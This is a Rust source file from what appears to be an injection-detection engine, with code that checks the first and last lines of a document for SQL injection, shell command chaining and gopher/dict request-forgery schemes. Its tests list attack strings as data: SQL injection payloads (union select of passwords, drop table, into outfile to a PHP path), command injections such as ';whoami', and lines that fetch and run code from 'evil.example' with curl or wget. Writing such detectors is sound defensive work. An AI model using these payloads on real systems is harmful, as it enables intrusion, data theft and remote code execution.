//! What stands around a document goes on with its first line and from its last: lines that say nothing, before or behind, would
//! hide what leaves a query, a command or a head. What acts by itself, such as a program's first line, documents have too.

use super::bytes::{begins_with, between, find_pair, from, is_blank, listed, low, positions, skip_blank, word_len};
use super::effort::Effort;
use super::{Categories, Engine, Finding, Kind, Listener, profile};

/// What is judged of a line: the first of the first, the last of the last.
const LINE_BYTES_MAX: usize = 1024;

impl Engine {
    /// Judges the first and the last line of a document by themselves, for what goes on in what stands around the value.
    pub(super) fn judge_outer_lines(
        &self,
        layer: &[u8],
        left: &mut Categories,
        effort: &mut Effort,
        report: &mut dyn FnMut(Finding) -> bool,
    ) -> bool {
        let [(first, second), (last, above)] = profile::outer_lines(layer);
        let first = between(first, 0, first.len().min(LINE_BYTES_MAX));
        let last = from(last, last.len().saturating_sub(LINE_BYTES_MAX));
        [(first, second), (last, above)].into_iter().any(|(line, beside)| {
            let mut listener = Listener {
                counts: &|rule| goes_on(line, beside, rule),
                report,
            };
            self.judge_layer(line, profile::bits(line), Kind::Parameter, left, effort, &mut listener)
        })
    }
}

/// Whether what a rule finds in a line leaves what stands around it. `beside`: what the line below or above begins with.
fn goes_on(line: &[u8], beside: u8, rule: &str) -> bool {
    match rule {
        "request_forgery.scheme" => begins_with(line, b"gopher:") || begins_with(line, b"dict:"),
        "sql.union"
        | "sql.boolean"
        | "sql.comment"
        | "sql.comparison"
        | "sql.subquery"
        | "sql.expression"
        | "sql.catalogue"
        | "sql.executable_comment" => true,
        // A script of statements is a document, and begins with a word; what leaves a query in the middle of a line closes a quote.
        "sql.stacked" | "sql.clause" | "sql.function" | "sql.delay" | "sql.file" | "sql.cast" => {
            !line.first().is_some_and(u8::is_ascii_alphabetic) || leaves_quote(line)
        }
        "command.chained" | "command.shell" => is_chained(line, beside),
        _ => rule.starts_with("nosql.") || rule.starts_with("header."),
    }
}

/// Whether a line closes a quote that it did not open: one of either kind is left over, or the first closes what the line
/// begins with (`x'; drop table users#'`). Between letters it is an apostrophe, but in front of what a query goes on with.
fn leaves_quote(line: &[u8]) -> bool {
    /// Sorted.
    const GOES_ON: [&str; 20] = [
        "between",
        "collate",
        "div",
        "for",
        "glob",
        "group",
        "having",
        "in",
        "into",
        "is",
        "like",
        "limit",
        "mod",
        "offset",
        "order",
        "procedure",
        "regexp",
        "rlike",
        "union",
        "xor",
    ];
    let goes_on = |at: usize| listed(&GOES_ON, between(line, at + 1, at + 1 + word_len(line, at + 1)));
    let letter = |at: Option<usize>| {
        at.and_then(|at| line.get(at))
            .is_some_and(|b| b.is_ascii_alphabetic() || *b >= 0x80)
    };
    // Whether one that a query may go on behind is an apostrophe is not known.
    let odd = |quote: u8, told: bool| {
        let apostrophe = |at: &usize| letter(at.checked_sub(1)) && letter(at.checked_add(1));
        let quotes = positions(line, quote).filter(|at| !apostrophe(at) || told && goes_on(*at));
        quotes.count() % 2 == 1
    };
    let begun = word_len(line, 0);
    let closes = matches!(low(line, begun), b'\'' | b'"')
        && matches!(low(line, begun + 1), b')' | b';' | b' ' | b'\t')
        && begun > 0;
    closes
        || [b'\'', b'"']
            .iter()
            .any(|quote| odd(*quote, true) || odd(*quote, false))
}

/// Whether a line is what an argument goes on with, and no command of a script nor words with marks between: a separator
/// stands before any blank, or behind what is no word.
fn is_chained(line: &[u8], beside: u8) -> bool {
    let end = line.iter().position(|b| is_blank(*b)).unwrap_or(line.len());
    let word = between(line, 0, end);
    // `| test | x |`: a row of a table, beside another, where no shell takes a bar.
    let row = word == b"|" && line.ends_with(b"|") && beside == b'|';
    let separates = word.iter().any(|b| matches!(b, b';' | b'&' | b'|'));
    // `Use:`cat``: a span of code, behind a letter of another script as well.
    let front = between(word, 0, positions(word, b'`').next().unwrap_or(word.len()));
    let spans = front.iter().any(|b| *b >= 0x80 || matches!(b, b':' | b'('));
    let quoted = front.len() < word.len() && (!spans || positions(word, b'`').count() % 2 == 1);
    // `NOW=$(date)` is a script's.
    let substitutes = find_pair(word, 0, *b"$(").is_some_and(|at| at == 0 || word.get(at - 1) != Some(&b'='));
    // `127.0.0.1 ;id`: an address or a number is no command.
    let argument = word.iter().all(|b| b.is_ascii_digit() || *b == b'.')
        && matches!(low(line, skip_blank(line, end)), b';' | b'&' | b'|');
    !row && (separates || quoted || substitutes || argument)
}

#[cfg(test)]
mod tests {
    use super::super::{Account, Category};
    use super::*;

    fn is_found(engine: &Engine, text: &str) -> bool {
        let all = Category::ALL.iter().fold(Categories::NONE, |set, (_, c)| set.with(*c));
        let mut found = false;
        engine.judge(
            text.as_bytes(),
            Kind::Parameter,
            all,
            &mut Account::default(),
            &mut |_| {
                found = true;
                true
            },
        );
        found
    }

    /// Lines that say nothing, as a document's.
    fn document() -> String {
        format!("\n#x\n#y\n#z\n#u\n{}\n", "#".repeat(170))
    }

    #[test]
    fn what_goes_on_is_found_before_and_behind_lines_that_say_nothing() {
        let engine = Engine::new();
        let long = format!("x' or 1=1#{}", "A".repeat(1100));
        for line in [
            "x' or 1=1#",
            "x' or sleep(0) or 1=1#",
            "x' and md5(1) union select password from users#",
            "x' and extractvalue(1,concat(0x7e,version()))#",
            "x';select pg_sleep(5)",
            "id and sleep(5)#",
            "x'; drop table users#",
            "x' order by 5#",
            "' waitfor delay '0:0:5'",
            "1 into outfile '/var/www/x.php'",
            ";whoami",
            "&&whoami",
            "127.0.0.1;id",
            "x$(sleep 5)",
            "x.jpg;curl evil.example|sh",
            "Gopher://127.0.0.1:6379/_x",
            "x'; drop table users#'",
            "x' order by 5#'",
            "x'order by 5#",
            "x'limit 1;drop table users#",
            "x'rlike sleep(5)#",
            "a'like'b'; drop table users#",
            "x'mod'' order by 5#'",
            "| wget evil.example/x; sh x |",
            "x`id`",
            "127.0.0.1`id`",
            "127.0.0.1 ;id",
            "é;whoami",
            "127.0.0.1 && whoami",
            &long,
        ] {
            let text = format!("{line}{}", document());
            assert!(is_found(&engine, &text), "{line}");
        }
        assert!(is_found(&engine, &format!("{}x' or sleep(0) or 1=1#", document())));
    }

    #[test]
    fn what_a_script_begins_and_ends_with_is_none() {
        let engine = Engine::new();
        for line in [
            "create table users (id int);",
            "select * from users order by 5;",
            "time.sleep(5)",
            "NOW=$(date)",
            "cd /tmp && ls",
            "exit 0",
            "用来替代`less`或`more`。",
            "Use:`cat`",
            "Let's call sleep(5) and now() here",
            "It's sleep(5) that hangs",
            "| test | x | x |\n| --- | --- | --- |",
            "| --- | --- | --- |\n| test | x | x |",
        ] {
            for text in [format!("{line}{}", document()), format!("{}{line}", document())] {
                assert!(!is_found(&engine, &text), "{text}");
            }
        }
    }
}
